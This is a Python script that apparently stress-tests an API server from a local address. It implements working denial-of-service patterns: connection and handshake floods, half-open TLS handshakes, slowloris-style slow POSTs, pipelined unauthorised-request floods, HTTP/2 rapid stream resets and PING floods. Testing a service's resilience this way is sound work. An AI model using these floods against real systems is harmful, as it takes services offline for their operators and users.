"""What a hostile client does to an API, over and over, from an address of its own: flood.py KIND HOST PORT SECONDS."""

import contextlib
import socket
import ssl
import sys
import time

FROM = "127.0.0.2"
kind, host, port, seconds = sys.argv[1], sys.argv[2], int(sys.argv[3]), float(sys.argv[4])
end = time.monotonic() + seconds
lax = ssl.create_default_context()
lax.check_hostname = False
lax.verify_mode = ssl.CERT_NONE
done = 0


def connect(patience=1.0):
    return socket.create_connection((host, port), timeout=patience, source_address=(FROM, 0))


def secure(alpn):
    lax.set_alpn_protocols([alpn])
    return lax.wrap_socket(connect(), server_hostname="localhost")


def connections():
    """Opened, and closed without a word."""
    connect(0.05).close()


def handshakes():
    secure("http/1.1").close()


def halves():
    """Half a handshake, then silence."""
    held.append(connect(0.05))
    held[-1].sendall(b"\x16\x03\x01\x02\x00\x01")
    if len(held) > 900:
        held.pop(0).close()


def slow():
    """A thousand requests at once, each a letter at a time."""
    if len(held) < 1000:
        held.append(secure("http/1.1"))
        held[-1].sendall(b"POST / HTTP/1.1\r\nHost: localhost\r\nContent-Length: 60000\r\n\r\n")
        held[-1].settimeout(0.01)
    for s in list(held):
        with contextlib.suppress(TimeoutError):
            try:
                s.sendall(b"x")
            except (OSError, ssl.SSLError):
                held.remove(s)


def unauthorised():
    """As many requests as go into the socket, with a key that is none."""
    request = b"GET /v1/account HTTP/1.1\r\nHost: localhost\r\nAuthorization: Bearer ionet_none\r\n\r\n"
    with secure("http/1.1") as s:
        while time.monotonic() < end:
            s.sendall(request * 50)
            s.recv(65536)


def resets():
    """Streams of HTTP/2, opened and reset at once."""
    head = b"\x82\x87\x84\x41\x09localhost"  # GET https / with its authority
    with secure("h2") as s:
        s.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + b"\0\0\0\4\0\0\0\0\0")
        for stream in range(1, 200001, 2):
            at = stream.to_bytes(4, "big")
            s.sendall(len(head).to_bytes(3, "big") + b"\1\5" + at + head + b"\0\0\4\3\0" + at + b"\0\0\0\x08")


def pings():
    """PINGs whose answers are read."""
    with secure("h2") as s:
        s.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + b"\0\0\0\4\0\0\0\0\0")
        while time.monotonic() < end:
            s.sendall(b"\0\0\x08\6\0\0\0\0\0abcdefgh" * 500)
            s.recv(65536)


held = []
while time.monotonic() < end:
    with contextlib.suppress(OSError, ssl.SSLError):
        globals()[kind]()
        done += 1
print(f"{kind}: {done}")
